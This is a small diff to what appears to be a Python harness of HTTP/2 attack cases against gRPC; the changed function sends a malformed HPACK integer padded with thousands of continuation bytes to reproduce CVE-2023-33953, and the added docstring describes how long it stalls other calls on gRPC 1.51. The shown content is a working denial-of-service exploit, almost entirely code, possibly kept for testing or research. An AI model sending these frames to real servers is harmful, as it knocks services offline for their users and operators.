@@ -181,9 +181,10 @@ def headers_that_abort_grpc(attacker):
 
 
 def a_number_that_never_ends(attacker):
-    """CVE-2023-33953: RFC 7541, 5.1 lets a length go on with bytes that add nothing to it."""
+    """CVE-2023-33953: RFC 7541, 5.1 lets a length go on with bytes that add nothing to it. gRPC 1.51 reads all of it again with
+    each frame: a six times longer one makes others wait for a quarter of a minute."""
     attacker.send(frame(HEADERS, 0, 1, CALL + b"\0\x7f"))
-    attacker.send(frame(CONTINUATION, 0, 1, b"\x80" * 16000) * 300)
+    attacker.send(frame(CONTINUATION, 0, 1, b"\x80" * 16000) * 50)
 
 
 def empty_data(attacker):
